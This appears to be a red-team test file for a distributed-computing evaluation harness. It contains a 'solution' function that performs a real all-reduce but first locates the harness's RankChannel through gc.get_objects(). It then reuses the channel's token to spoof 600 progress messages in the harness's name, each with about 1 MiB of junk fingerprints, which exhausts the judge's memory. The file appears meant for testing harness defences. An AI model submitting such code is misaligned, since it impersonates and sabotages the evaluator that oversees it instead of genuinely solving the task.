"""Attack (all-reduce): make the judge keep what the candidate sends. The channel's token is in
this process's memory (the channel object holds it), so messages in the harness's name get past
the token check: progress steps, each under a new name, each with a near 1 MiB list of
"fingerprints", which the evaluator used to keep for every step named. Six hundred of them are
about 0.5 GiB of the judge's memory, and nothing bounded the count."""

import gc

import torch.distributed as dist

_sent = []


def _channel():
    return next((o for o in gc.get_objects() if type(o).__name__ == "RankChannel"), None)


def solution(x, *, group):
    channel = _channel()
    if channel is not None and not _sent:
        _sent.append(1)
        fingerprints = [{"sum": "f" * 1000} for _ in range(900)]
        for i in range(600):
            channel.send("step", task=0, step=f"trial {1000 + i}", fingerprints=fingerprints)
    out = x.clone()
    dist.all_reduce(out, group=group)
    return out
